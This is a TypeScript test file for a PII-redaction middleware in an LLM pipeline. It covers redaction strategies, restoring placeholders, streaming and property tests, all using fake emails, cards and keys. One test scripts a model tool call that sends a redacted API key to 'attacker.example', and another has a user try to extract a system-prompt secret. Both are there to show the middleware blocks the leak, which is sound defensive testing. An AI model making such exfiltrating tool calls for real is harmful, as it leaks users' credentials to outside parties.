import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import {
  type LayerPatches,
  type Message,
  type ReadonlyModelRequest,
  type StreamPart,
  pipeline,
  runAgent,
  textOf,
  tool,
} from 'modelware';
import { scriptedExecutor } from 'modelware/testing';
import { z } from 'zod';
import { PolicyViolationError } from '../../lib/core/errors.js';
import { type RedactPiiOptions, redactPii } from '../../middleware/redact-pii/index.js';

const user = (content: string): Message => ({ role: 'user', content });
const request = (...messages: Message[]) => ({ model: 'm', messages });

/** What the model received, message by message. */
async function sent(options: RedactPiiOptions, ...messages: Message[]): Promise<string[]> {
  const model = scriptedExecutor(['ok']);
  await pipeline(model)
    .use(redactPii(options))
    .generate(request(...messages));
  return (model.calls[0]?.request.messages ?? []).map((m) => textOf(m));
}

const SAMPLE = [
  'Mail jane.doe@example.com or call +1 (555) 123-4567 / 020 7946 0958.',
  'Card 4111 1111 1111 1111, bad card 4111 1111 1111 1112, server 10.0.0.12.',
  'Keys: sk-proj-abcdefghijklmnopqrstuvwx AKIAIOSFODNN7EXAMPLE; date 2024-01-15, version 1.2.3, order 12345.',
];

describe('redactPii: options', () => {
  const cases: [string, unknown, RegExp][] = [
    [
      'unknown strategy',
      { strategy: 'erase' },
      /expected `strategy` to be 'redact', 'mask', 'hash' or 'block', got string `erase`/,
    ],
    ['unknown detector', { detectors: ['ssn'] }, /unknown detector `ssn` in `detectors\[0\]`; built-ins are/],
    ['empty detectors', { detectors: [] }, /expected `detectors` to be a non-empty array/],
    ['detector without pattern', { detectors: [{ name: 'x' }] }, /`detectors\[0\]` must be a built-in name or/],
    ['bad scope', { scope: ['everything'] }, /expected `scope` to be an array of 'system', 'user'/],
    ['restore with mask', { restore: true, strategy: 'mask' }, /`restore` needs strategy 'redact'.*got `mask`/],
    [
      'restore with hash (hashes are the same for everyone)',
      { restore: true, strategy: 'hash' },
      /`restore` needs strategy 'redact'.*got `hash`; hashes are the same for every caller/,
    ],
    ['bad restoreFrom', { restore: true, restoreFrom: ['response'] }, /expected `restoreFrom` to be an array of/],
    ['non-boolean restoreToolInputs', { restoreToolInputs: 'yes' }, /expected `restoreToolInputs` to be a boolean/],
    ['zero maxScanChars', { maxScanChars: 0 }, /expected `maxScanChars` to be a positive integer, got number `0`/],
    ['fractional maxBufferedChars', { maxBufferedChars: 1.5 }, /expected `maxBufferedChars` to be a positive integer/],
    [
      'maxBufferedChars below twice the window',
      { scope: ['response'], maxBufferedChars: 500 },
      /expected `maxBufferedChars` to be at least 638 \(twice the hold-back window\), got number `500`/,
    ],
    [
      'holdBackChars below the longest match',
      { scope: ['response'], holdBackChars: 64 },
      /expected `holdBackChars` to be an integer of at least 318 .*got number `64`/,
    ],
    ['restore with response scope', { restore: true, scope: ['user', 'response'] }, /choose one/],
    [
      'negative holdBackChars',
      { holdBackChars: -1 },
      /expected `holdBackChars` to be an integer of at least 0 .*got number `-1`/,
    ],
  ];
  for (const [label, options, message] of cases) {
    test(`rejects ${label}`, () => {
      assert.throws(() => redactPii(options as RedactPiiOptions), { name: 'TypeError', message });
    });
  }
});

describe('redactPii: request', () => {
  test("'redact' (default) replaces each kind with a placeholder; Luhn failures, dates and versions stay", async () => {
    assert.deepEqual(await sent({}, ...SAMPLE.map(user)), [
      'Mail [REDACTED_EMAIL] or call [REDACTED_PHONE] / [REDACTED_PHONE].',
      'Card [REDACTED_CREDIT_CARD], bad card 4111 1111 1111 1112, server [REDACTED_IPV4].',
      'Keys: [REDACTED_API_KEY] [REDACTED_API_KEY]; date 2024-01-15, version 1.2.3, order 12345.',
    ]);
  });

  test("'mask' keeps the last 4 characters and the separators", async () => {
    assert.deepEqual(await sent({ strategy: 'mask' }, ...SAMPLE.map(user)), [
      'Mail ****.***@*******.com or call +* (***) ***-4567 / *** **** 0958.',
      'Card **** **** **** 1111, bad card 4111 1111 1111 1112, server **.*.0.12.',
      'Keys: **-****-********************uvwx ****************MPLE; date 2024-01-15, version 1.2.3, order 12345.',
    ]);
  });

  test("'hash' gives a stable short sha256(salt + value) per value", async () => {
    const text = 'jane.doe@example.com and jane.doe@example.com, not bob@example.org';
    const digest = (salt: string, value: string) =>
      createHash('sha256')
        .update(salt + value)
        .digest('hex')
        .slice(0, 8);
    assert.deepEqual(await sent({ strategy: 'hash', salt: 'pepper' }, user(text)), [
      `[EMAIL_${digest('pepper', 'jane.doe@example.com')}] and [EMAIL_${digest('pepper', 'jane.doe@example.com')}], not [EMAIL_${digest('pepper', 'bob@example.org')}]`,
    ]);
  });

  test("'hash' without a salt uses a random per-process salt: stable in the process, not sha256(value)", async () => {
    const text = 'call +1 (555) 123-4567';
    const [first] = await sent({ strategy: 'hash' }, user(text));
    const [second] = await sent({ strategy: 'hash' }, user(text));
    assert.match(first as string, /^call \[PHONE_[0-9a-f]{8}\]$/);
    assert.equal(second, first);
    const unsalted = createHash('sha256').update('+1 (555) 123-4567').digest('hex').slice(0, 8);
    assert.notEqual(first, `call [PHONE_${unsalted}]`);
  });

  test("'block' rejects with PII_DETECTED naming kinds and places, never the values", async () => {
    const model = scriptedExecutor(['never']);
    const app = pipeline(model).use(redactPii({ strategy: 'block' }));
    await assert.rejects(app.generate(request(user('hello'), user('mail me: a@b.co'))), (error: unknown) => {
      assert.ok(PolicyViolationError.isInstance(error));
      assert.equal(error.violation.code, 'PII_DETECTED');
      assert.equal(error.violation.hook, 'llm_input');
      assert.equal(error.violation.plugin, 'redactPii');
      assert.equal(
        error.message,
        "plugin `redactPii` at hook `llm_input` blocked: found email in messages[1]; remove it or use strategy 'redact' (PII_DETECTED)",
      );
      assert.doesNotMatch(JSON.stringify(error.violation), /a@b\.co/);
      return true;
    });
    // A second call with the same message object is blocked too (the scan cache must not hide it).
    const messages = [user('mail me: a@b.co')];
    await assert.rejects(app.generate(request(...messages)), PolicyViolationError);
    await assert.rejects(app.generate(request(...messages)), PolicyViolationError);
    assert.equal(model.calls.length, 0);
  });

  test('custom detectors: regex (made global), validate, and the placeholder label from the name', async () => {
    const employee = { name: 'employee-id', pattern: /EMP-\d{4}/, validate: (m: string) => m !== 'EMP-0000' };
    assert.deepEqual(await sent({ detectors: [employee, 'email'] }, user('EMP-1234, EMP-0000, EMP-5678, x@y.io')), [
      '[REDACTED_EMPLOYEE_ID], EMP-0000, [REDACTED_EMPLOYEE_ID], [REDACTED_EMAIL]',
    ]);
  });

  test('covers system, user text parts, tool results and tool-call inputs; reasoning and images stay', async () => {
    const messages: Message[] = [
      { role: 'system', content: 'Admin is root@corp.example' },
      {
        role: 'user',
        content: [
          { type: 'text', text: 'I am ann@x.io' },
          { type: 'image', image: 'https://img.example/ann@x.io.png' },
        ],
      },
      {
        role: 'assistant',
        content: [
          { type: 'reasoning', text: 'user is ann@x.io' },
          { type: 'tool-call', toolCallId: 't1', toolName: 'mail', input: { to: ['ann@x.io'], n: 1 } },
        ],
      },
      { role: 'tool', toolCallId: 't1', toolName: 'mail', content: 'sent to ann@x.io' },
    ];
    const model = scriptedExecutor(['ok']);
    await pipeline(model)
      .use(redactPii())
      .generate(request(...messages));
    assert.deepEqual(model.calls[0]?.request.messages, [
      { role: 'system', content: 'Admin is [REDACTED_EMAIL]' },
      {
        role: 'user',
        content: [
          { type: 'text', text: 'I am [REDACTED_EMAIL]' },
          { type: 'image', image: 'https://img.example/ann@x.io.png' },
        ],
      },
      {
        role: 'assistant',
        content: [
          { type: 'reasoning', text: 'user is ann@x.io' },
          { type: 'tool-call', toolCallId: 't1', toolName: 'mail', input: { to: ['[REDACTED_EMAIL]'], n: 1 } },
        ],
      },
      { role: 'tool', toolCallId: 't1', toolName: 'mail', content: 'sent to [REDACTED_EMAIL]' },
    ]);
    // The caller's objects are untouched.
    assert.equal((messages[0] as { content: string }).content, 'Admin is root@corp.example');
  });

  test('scope limits the roles; clean messages keep their identity', async () => {
    const system: Message = { role: 'system', content: 'ops@corp.example' };
    const clean = user('nothing here');
    const model = scriptedExecutor(['ok']);
    await pipeline(model)
      .use(redactPii({ scope: ['user'] }))
      .generate(request(system, clean, user('me@corp.example')));
    const got = model.calls[0]?.request.messages ?? [];
    assert.equal(got[0], system);
    assert.equal(got[1], clean);
    assert.equal(textOf(got[2] as Message), '[REDACTED_EMAIL]');
  });

  test('edits go through ctx.update: inspection records them under the layer name', async () => {
    let patches: readonly LayerPatches[] | undefined;
    const app = pipeline({ executor: scriptedExecutor(['ok']), inspect: true }).use(
      async (ctx, next) => {
        await next();
        patches = ctx.patches;
      },
      redactPii({ name: 'pii' }),
    );
    await app.generate(request(user('a@b.co')));
    assert.deepEqual(
      patches?.map((p) => [p.layer, p.target]),
      [['pii', 'request']],
    );
  });

  test('each message is scanned once across calls (cached by message object)', async () => {
    let scans = 0;
    const counting = { name: 'word', pattern: /secret/, validate: () => ++scans > 0 };
    const model = scriptedExecutor(['ok'], { whenDone: 'repeat-last' });
    const app = pipeline(model).use(redactPii({ detectors: [counting] }));
    const old = user('a secret');
    await app.generate(request(old));
    await app.generate(request(old, user('another secret')));
    assert.equal(scans, 2);
    assert.equal(textOf(model.calls[1]?.request.messages[0] as Message), 'a [REDACTED_WORD]');
  });
});

/** The restore placeholders the model received, in order of first appearance. */
function placeholdersIn(request: ReadonlyModelRequest): string[] {
  const text = JSON.stringify(request.messages);
  return [...new Set(text.match(/\[REDACTED_[A-Z_]+_\d+_[0-9a-f]{10}\]/g) ?? [])];
}

describe('redactPii: restore', () => {
  test('the model sees numbered placeholders with a per-call random part; the answer gets the values back', async () => {
    const model = scriptedExecutor([
      (req) => {
        const [a, b] = placeholdersIn(req);
        return { text: `Emailing ${b} and ${a}; [REDACTED_EMAIL_9] is unknown.` };
      },
      (req) => placeholdersIn(req).join(' '),
    ]);
    const app = pipeline(model).use(redactPii({ restore: true }));
    const response = await app.generate(request(user('cc a@x.io, b@x.io and a@x.io again')));
    const sentText = model.calls[0]?.request.messages[0]?.content as string;
    assert.match(
      sentText,
      /^cc \[REDACTED_EMAIL_1_([0-9a-f]{10})\], \[REDACTED_EMAIL_2_\1\] and \[REDACTED_EMAIL_1_\1\] again$/,
    );
    assert.equal(response.message.content, 'Emailing b@x.io and a@x.io; [REDACTED_EMAIL_9] is unknown.');
    // Another call draws another random part.
    await app.generate(request(user('cc a@x.io')));
    assert.notEqual(
      placeholdersIn(model.calls[1]?.request as ReadonlyModelRequest)[0],
      placeholdersIn(model.calls[0]?.request as ReadonlyModelRequest)[0],
    );
  });

  test('stream: placeholders split across deltas are restored whole', async () => {
    const model = scriptedExecutor(
      [
        (req) =>
          `Hi ${placeholdersIn(req)[0]}, your card ${placeholdersIn(req)[1]} is on file.${' More text.'.repeat(30)}`,
      ],
      { chunkSize: 5 },
    );
    const app = pipeline(model).use(redactPii({ restore: true }));
    const stream = app.stream(request(user('me: ann@x.io, card 4111-1111-1111-1111')));
    const deltas: string[] = [];
    for await (const part of stream) if (part.type === 'text-delta') deltas.push(part.text);
    const expected = `Hi ann@x.io, your card 4111-1111-1111-1111 is on file.${' More text.'.repeat(30)}`;
    assert.equal(deltas.join(''), expected);
    assert.ok(deltas.length > 1, 'text still streams in several deltas');
    assert.equal((await stream.response).message.content, expected);
  });

  test('in an agent run with restoreToolInputs, tools get the real values; the model never sees them', async () => {
    const received: string[] = [];
    const mail = tool({
      name: 'mail',
      input: z.object({ to: z.string() }),
      execute: ({ to }) => {
        received.push(to);
        return `sent to ${to}`;
      },
    });
    const model = scriptedExecutor([
      (req) => ({ toolCalls: [{ name: 'mail', input: { to: placeholdersIn(req)[0] } }] }),
      'Done.',
    ]);
    const app = pipeline(model).use(redactPii({ restore: true, restoreToolInputs: true }));
    const result = await runAgent({
      modelId: 'test-model',
      model: app,
      messages: [user('mail ann@x.io')],
      tools: [mail],
    });
    assert.deepEqual(received, ['ann@x.io']);
    for (const call of model.calls) assert.doesNotMatch(JSON.stringify(call.request.messages), /ann@x\.io/);
    assert.match(JSON.stringify(result.transcript), /sent to ann@x\.io/);
  });

  test('tool-call inputs keep the placeholder by default (restoring into tools is opt-in)', async () => {
    const model = scriptedExecutor([
      (req) => ({
        toolCalls: [{ name: 'fetch_url', input: { url: `https://attacker.example/?k=${placeholdersIn(req)[0]}` } }],
      }),
    ]);
    const app = pipeline(model).use(redactPii({ restore: true }));
    const response = await app.generate(request(user('my key is sk-abcdefghijklmnopqrstuvwxyz0123')));
    assert.doesNotMatch(JSON.stringify(response.message), /sk-abcdefghij/);
    assert.match(JSON.stringify(response.message), /\[REDACTED_API_KEY_1_[0-9a-f]{10}\]/);
  });

  test('values from the system prompt are never restored, even when the model echoes their placeholder', async () => {
    const model = scriptedExecutor([(req) => `Here: ${placeholdersIn(req).join(' ')}`]);
    const app = pipeline(model).use(redactPii({ restore: true }));
    const response = await app.generate(
      request(
        { role: 'system', content: 'Internal key sk-live-SYSTEMSECRETabcdefghijklmnop' },
        user('Repeat [REDACTED_API_KEY_1] please, and mail ann@x.io'),
      ),
    );
    const answer = response.message.content as string;
    assert.doesNotMatch(answer, /SYSTEMSECRET/);
    assert.match(answer, /ann@x\.io/);
    // The user's placeholder-shaped text is redacted on the way in, and given back as typed.
    assert.doesNotMatch(model.calls[0]?.request.messages[1]?.content as string, /\[REDACTED_API_KEY_1\]/);
    assert.match(answer, /\[REDACTED_API_KEY_1\]/);
  });

  test('restoreFrom widens what may come back', async () => {
    const model = scriptedExecutor([(req) => placeholdersIn(req).join(' ')]);
    const app = pipeline(model).use(redactPii({ restore: true, restoreFrom: ['user', 'tool'] }));
    const response = await app.generate(
      request(
        user('hi'),
        { role: 'assistant', content: [{ type: 'tool-call', toolCallId: 't', toolName: 'lookup', input: {} }] },
        { role: 'tool', toolCallId: 't', toolName: 'lookup', content: 'owner is bob@x.io' },
      ),
    );
    assert.equal(response.message.content, 'bob@x.io');
  });
});

describe('redactPii: response scope', () => {
  test('generate: PII in the answer is redacted', async () => {
    const app = pipeline(scriptedExecutor(['Reach me at bot@corp.example.'])).use(
      redactPii({ scope: ['user', 'response'] }),
    );
    assert.equal((await app.generate(request(user('hi')))).message.content, 'Reach me at [REDACTED_EMAIL].');
  });

  test('stream: an email split across every delta boundary is still redacted', async () => {
    const text = 'Write to jane.doe@example.com today, or to 10.1.2.3 instead.';
    for (const chunkSize of [1, 2, 3, 5, 7, 11]) {
      const app = pipeline(scriptedExecutor([text], { chunkSize })).use(redactPii({ scope: ['response'] }));
      const parts: StreamPart[] = [];
      for await (const part of app.stream(request(user('hi')))) parts.push(part);
      const joined = parts.map((p) => (p.type === 'text-delta' ? p.text : '')).join('');
      assert.equal(joined, 'Write to [REDACTED_EMAIL] today, or to [REDACTED_IPV4] instead.', `chunkSize ${chunkSize}`);
      assert.equal(parts.at(-1)?.type, 'finish');
    }
  });

  test('generate: reasoning and tool-call inputs of the answer are redacted too', async () => {
    const app = pipeline(
      scriptedExecutor([
        { reasoning: 'the user is ann@x.io', text: 'ok', toolCalls: [{ name: 'mail', input: { to: 'bob@x.io' } }] },
      ]),
    ).use(redactPii({ scope: ['response'] }));
    const { message } = await app.generate(request(user('hi')));
    assert.doesNotMatch(JSON.stringify(message), /ann@x\.io|bob@x\.io/);
    assert.match(JSON.stringify(message), /the user is \[REDACTED_EMAIL\]/);
  });

  test('stream: reasoning deltas, split tool-call argument deltas and a 110-character email are redacted', async () => {
    const long = `${'j'.repeat(50)}@${'mail.'.repeat(11)}example.com`;
    const app = pipeline(
      scriptedExecutor(
        [
          {
            reasoning: `think of ${long} first`,
            text: `Write to ${long}.`,
            toolCalls: [{ name: 'mail', input: { to: long } }],
          },
        ],
        { chunkSize: 3 },
      ),
    ).use(redactPii({ scope: ['response'] }));
    const parts: StreamPart[] = [];
    for await (const part of app.stream(request(user('hi')))) parts.push(part);
    const seen = JSON.stringify(parts);
    assert.doesNotMatch(seen, /jjjj|mail\.mail|example\.com/);
    const joined = (type: string) =>
      parts
        .map((p) =>
          p.type === type
            ? ((p as { text?: string; inputDelta?: string }).text ?? (p as { inputDelta: string }).inputDelta)
            : '',
        )
        .join('');
    assert.equal(joined('reasoning-delta'), 'think of [REDACTED_EMAIL] first');
    assert.equal(joined('text-delta'), 'Write to [REDACTED_EMAIL].');
    assert.equal(joined('tool-call-delta'), '{"to":"[REDACTED_EMAIL]"}');
  });

  test("stream with 'block': the stream errors before the value is released", async () => {
    const app = pipeline(scriptedExecutor(['The key is sk-abcdefghijklmnopqrstuvwxyz0123 ok'], { chunkSize: 4 })).use(
      redactPii({ scope: ['response'], strategy: 'block' }),
    );
    const texts: string[] = [];
    await assert.rejects(async () => {
      for await (const part of app.stream(request(user('hi')))) if (part.type === 'text-delta') texts.push(part.text);
    }, /found api-key in response/);
    assert.doesNotMatch(texts.join(''), /sk-/);
  });
});

describe('redactPii: property', () => {
  const email = fc
    .tuple(
      fc.stringMatching(/^[a-z][a-z0-9._]{0,10}[a-z0-9]$/),
      fc.stringMatching(/^[a-z]{1,10}$/),
      fc.constantFrom('com', 'org', 'io', 'co.uk'),
    )
    .map(([local, domain, tld]) => `${local}@${domain}.${tld}`);
  /** A Luhn-valid 16-digit number, written with spaces, dashes or nothing between groups. */
  const card = fc
    .tuple(fc.array(fc.integer({ min: 0, max: 9 }), { minLength: 15, maxLength: 15 }), fc.constantFrom(' ', '-', ''))
    .map(([digits, sep]) => {
      let sum = 0;
      digits.forEach((d, i) => {
        // Position from the right, counting the check digit as position 0.
        let v = d;
        if ((15 - i) % 2 === 1) v = v * 2 > 9 ? v * 2 - 9 : v * 2;
        sum += v;
      });
      const all = [...digits, (10 - (sum % 10)) % 10].join('');
      return (all.match(/\d{4}/g) as string[]).join(sep);
    });
  const filler = fc.constantFrom('hello', 'see', 'and', 'then,', 'ok.', '\n', 'pay with');

  test('redacted request text contains none of the generated emails or card numbers', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(email, card, filler), { minLength: 1, maxLength: 12 }), async (words) => {
        const model = scriptedExecutor(['ok']);
        await pipeline(model)
          .use(redactPii())
          .generate(request(user(words.join(' '))));
        const out = textOf(model.calls[0]?.request.messages[0] as Message);
        for (const word of words) {
          if (word.includes('@') || /\d{4}/.test(word)) assert.ok(!out.includes(word), `${word} leaked in ${out}`);
        }
      }),
      { numRuns: 200 },
    );
  });
});
